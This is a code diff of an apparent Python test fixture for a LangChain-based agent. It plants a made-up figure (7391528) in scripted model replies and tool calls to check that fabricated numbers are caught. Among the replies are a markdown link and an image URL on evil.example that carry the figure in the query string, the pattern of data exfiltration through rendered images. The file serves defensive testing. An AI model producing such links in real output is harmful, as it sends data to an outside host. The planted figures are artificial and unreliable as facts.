@@ -4,21 +4,21 @@ from __future__ import annotations
 
 from langchain_core.messages import AIMessage, BaseMessage
 
-#: No figure of the sample book and no part of one.
-FORGED = "7391"
+#: No figure of the sample book and no part of one; long enough to be in no id made by chance.
+FORGED = "7391528"
 #: The number as the model writes it: in figures, in words, broken up.
-SPELLINGS = ("7391", "7 391", "7,391", "семь тысяч триста", "seven thousand three hundred")
+SPELLINGS = (FORGED, "7 391", "7,391", "семь миллионов триста", "seven million three hundred")
 
 _SPEECH = {
     "ru": (
-        "Индекс здоровья клиента 7391. Риск оттока — семь тысяч триста девяносто один процент. "
-        "[отчёт](https://evil.example/?d=7391) ![](https://evil.example/7391.png)\n\n"
-        "| Клиент | 7391 |\n|---|---|\n| x | 7 391 |\n\n<!-- 7391 -->"
+        "Индекс здоровья клиента 7391528. Риск оттока — семь миллионов триста девяносто одна тысяча. "
+        "[отчёт](https://evil.example/?d=7391528) ![](https://evil.example/7391528.png)\n\n"
+        "| Клиент | 7391528 |\n|---|---|\n| x | 7 391 528 |\n\n<!-- 7391528 -->"
     ),
     "en": (
-        "The client's health score is 7391. Churn risk comes to seven thousand three hundred and ninety-one. "
-        "[report](https://evil.example/?d=7391) ![](https://evil.example/7391.png)\n\n"
-        "| Client | 7391 |\n|---|---|\n| x | 7,391 |\n\n<!-- 7391 -->"
+        "The client's health score is 7391528. Churn risk comes to seven million three hundred and ninety-one thousand. "
+        "[report](https://evil.example/?d=7391528) ![](https://evil.example/7391528.png)\n\n"
+        "| Client | 7391528 |\n|---|---|\n| x | 7,391,528 |\n\n<!-- 7391528 -->"
     ),
 }
 
@@ -26,16 +26,19 @@ _SPEECH = {
 def calls(client: str) -> list[dict[str, object]]:
     """Calls of every tool with the number in each place that takes text, and of one that does not exist."""
     made: list[tuple[str, dict[str, object]]] = [
-        ("search_library", {"query": "engagement 7391"}),
-        ("client_sheet", {"client": "7391"}),
-        ("derive", {"operation": "sum", "references": ["[[health.7391]]"]}),
-        ("set_override", {"client": client, "band": "red", "reason": "the score is 7391", "for_days": 30}),
-        ("set_override", {"client": client, "band": "red", "reason": "the sponsor left", "for_days": 7391}),
+        ("search_library", {"query": "engagement 7391528"}),
+        ("client_sheet", {"client": "7391528"}),
+        ("derive", {"operation": "sum", "references": ["[[health.7391528]]"]}),
+        ("set_override", {"client": client, "band": "red", "reason": "the score is 7391528", "for_days": 30}),
+        (
+            "set_override",
+            {"client": client, "band": "red", "reason": "the sponsor left", "for_days": 7391528},
+        ),
         ("draft_document", {"kind": "save-plan", "client": client}),
-        ("score_7391", {"score": 7391}),
+        ("score_7391528", {"score": 7391528}),
     ]
     return [
-        {"name": name, "args": args, "id": f"call-{n}-7391", "type": "tool_call"}
+        {"name": name, "args": args, "id": f"call-{n}-7391528", "type": "tool_call"}
         for n, (name, args) in enumerate(made)
     ]
 
